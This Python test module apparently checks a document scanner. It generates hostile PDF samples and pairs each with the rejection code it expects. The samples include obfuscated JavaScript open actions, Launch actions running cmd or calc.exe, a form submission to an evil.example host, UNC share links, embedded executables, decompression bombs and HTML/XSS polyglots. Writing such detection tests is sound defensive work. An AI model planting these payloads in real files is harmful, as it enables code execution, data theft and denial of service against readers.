"""PDF files that act, carry, reach out, burst, or are something else besides."""

import zlib

from tests.documents.makers import GOOD, docx, jpeg, pdf, zipped

from .case import Case, burst

IN_CATALOGUE = {
    # name: (what stands in the catalogue, refusal)
    "script on opening": (b"/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>", "active"),
    "script by reference": (b"/OpenAction << /S /JavaScript /JS 4 0 R >>", "active"),
    "script with escapes": (b"/OpenAction << /S /J#61vaScript /J#53 (x) >>", "active"),
    "script in capitals' escapes": (b"/OpenAction << /S /#4A#61v#61Script >>", "active"),
    "script among names": (b"/Names << /JavaScript << /Names [(a) 4 0 R] >> >>", "active"),
    "script on closing": (b"/AA << /WC << /S /JavaScript /JS (x) >> >>", "active"),
    "script between words of a stream": (
        b"/A (stream\n) /OpenAction << /S /JavaScript /JS (x) >> /B (endstream)",
        "active",
    ),
    "script behind a comment": (b"/OpenAction %\n<< /S %x\n/JavaScript /JS (x) >>", "active"),
    "script in a list": (b"/Next [<< /S /JavaScript /JS (x) >>]", "active"),
    "launch": (b"/OpenAction << /S /Launch /F (c:/windows/calc.exe) >>", "active"),
    "launch for Windows": (b"/OpenAction << /S /Launch /Win << /F (cmd) /P (/c) >> >>", "active"),
    "launch with escapes": (b"/OpenAction << /S /La#75nch /F (x) >>", "active"),
    "other file": (b"/OpenAction << /S /GoToR /F (\\\\\\\\evil\\\\a.pdf) >>", "active"),
    "file inside another": (b"/OpenAction << /S /GoToE /T << >> >>", "active"),
    "form that is sent": (b"/OpenAction << /S /SubmitForm /F (http://evil.example) >>", "active"),
    "form that is filled": (b"/OpenAction << /S /ImportData /F (x) >>", "active"),
    "form in XML": (b"/AcroForm << /XFA 4 0 R >>", "active"),
    "film": (b"/Annots [<< /Subtype /RichMedia >>]", "active"),
    "old film": (b"/Annots [<< /Subtype /Movie >>]", "active"),
    "rendition": (b"/OpenAction << /S /Rendition /R << >> >>", "active"),
    "link to a programme": (b"/A << /S /URI /URI (file:///c:/run.exe) >>", "active"),
    "link to a share": (b"/A << /S /URI /URI (\\\\\\\\evil\\\\x) >>", "active"),
    "link to a script": (b"/A << /S /URI /URI (javascript:alert) >>", "active"),
    "files inside": (b"/Names << /EmbeddedFiles 9 0 R >>", "embedded"),
    "file inside": (b"/AF [<< /Type /Filespec /EF << /F 4 0 R >> >>]", "embedded"),
    "file inside with escapes": (b"/Names << /Embedded#46iles 9 0 R >>", "embedded"),
    "password": (b"/X << /Encrypt << /Filter /Standard >> >>", "locked"),
}
BEHIND = {
    "zip": zipped({"a": "b"}),
    "Word": docx("x"),
    "zip with an end": zipped({"a": "b"}) + b"\n%%EOF\n",
    "programme": b"MZ\x90\0" + b"\0" * 200,
    "programme with an end": b"MZ\x90\0%%EOF",
    "page": b"<html><script>1</script></html>\nstartxref\n9\n%%EOF\n",
    "picture": jpeg(),
    "text": b"hello",
    "page in an object": b"9 0 obj <html> endobj\nstartxref\n9\n%%EOF\n",
    "page in a comment": b"%<script>\n%%EOF\n",
    "stream": b"stream\nMZ\x90\x00\nendstream\n%%EOF\n",
}


def cases():
    for name, (extra, code) in IN_CATALOGUE.items():
        alive = b"".join(b"\\x%02x" % byte for byte in extra)
        yield Case(f"PDF {name}", "a.pdf", pdf("x", extra=extra), code, alive)
    for name, tail in BEHIND.items():
        yield Case(f"PDF and {name} behind", "a.pdf", pdf("x", tail=tail), "trailing")
    for name, (data, code) in shapes().items():
        yield Case(f"PDF {name}", "a.pdf", data, code)
    for name, data in POLYGLOTS.items():
        yield Case(f"PDF that is also {name}", "a.pdf", data, "")


def with_stream(about: bytes, body: bytes) -> bytes:
    """A file with one more stream; its table is found anew by the reader."""
    whole = pdf("x")
    at = whole.index(b"xref\n0")
    new = b"8 0 obj << %s /Length %d >>\nstream\n%s\nendstream endobj\n" % (about, len(body), body)
    start = at + len(new)
    table = b"8 1\n%010d 00000 n \ntrailer" % at
    tail = whole[at:].replace(b"trailer", table, 1).replace(b"/Size 8", b"/Size 9")
    return whole[:at] + new + tail.replace(b"startxref\n%d" % at, b"startxref\n%d" % start)


def shapes() -> dict[str, tuple[bytes, str]]:
    flate, zeros = b"/Filter /FlateDecode", burst(200)
    script = zlib.compress(b"1 0 << /S /JavaScript /JS (x) >>")
    objects = b"/Type /ObjStm /N 1 /First 4 "
    good = GOOD["pdf"]
    return {
        "with a stream that bursts": (with_stream(flate, zeros), "bomb"),
        "with a stream packed twice": (
            with_stream(b"/Filter [/FlateDecode /FlateDecode]", zlib.compress(zeros)),
            "bomb",
        ),
        "with objects that burst": (with_stream(objects + flate, zeros), "bomb"),
        "with a huge picture": (
            with_stream(b"/Subtype /Image /Width 60000 /Height 60000", b"x"),
            "bomb",
        ),
        "with a stream elsewhere": (with_stream(b"/F (\\\\\\\\evil\\\\x)", b""), "external"),
        "with a packed script": (with_stream(objects + flate, script), "active"),
        "with a file in a stream": (with_stream(b"/Type /EmbeddedFile", b"MZ"), "embedded"),
        "that is locked": (good.replace(b"/Root", b"/Encrypt 9 0 R /Root"), "locked"),
        "with a file in an object that only its repair finds": (
            pdf("x", extra=b"/AF [<< /Type /Filespec /EF << /F 4 0 R >> >>]").replace(
                b"1 0 obj", b"1x0 obj"
            ),
            "embedded",
        ),
        "cut in the middle": (good[: len(good) // 2], "damaged"),
        "cut at the end": (good[:-7], "damaged"),
        "of its head alone": (b"%PDF-1.7\n", "damaged"),
        "of its head and end alone": (b"%PDF-1.7\n%%EOF\n", "damaged"),
        "with a page before it": (b"<html>" + good, "unknown"),
        "with blanks before it": (b"\n\n" + good, "unknown"),
        "with a programme before its end": (
            good.replace(b"startxref", b"MZ\x90\x00\nstartxref"),
            "trailing",
        ),
        "that goes in circles": (
            good.replace(b"trailer << ", b"trailer << /Prev %d " % good.index(b"xref\n0")),
            "",
        ),
        "whose pages go in circles": (good.replace(b"/Kids [3 0 R]", b"/Kids [2 0 R]"), ""),
        "of brackets": (pdf("x", extra=b"[" * 100_000 + b"]" * 100_000), "damaged"),
        "of many objects that no table names": (
            good.replace(b"xref\n0", b"".join(EMPTY % n for n in range(9, 2000)) + b"xref\n0"),
            "damaged",
        ),
    }


EMPTY = b"%d 0 obj\n<<>>\nendobj\n"
HEAD = b"%PDF-1.7\n"
PAGE = b"<html><body><script>alert(document.domain)</script></body></html>"
POLYGLOTS = {
    "a page in its first comment": GOOD["pdf"].replace(HEAD, HEAD + b"%" + PAGE + b"\n"),
    "a page in a text": pdf(
        "x", extra=b"/X (" + PAGE.translate(bytes.maketrans(b"()", b"``")) + b")"
    ),
    "a page in a stream": with_stream(b"", PAGE),
    "a script of a shell": GOOD["pdf"].replace(HEAD, HEAD + b"%\n%#!/bin/sh\n"),
}
"""A browser that guessed would run them: so it may not guess, not open them, and has a sandbox."""
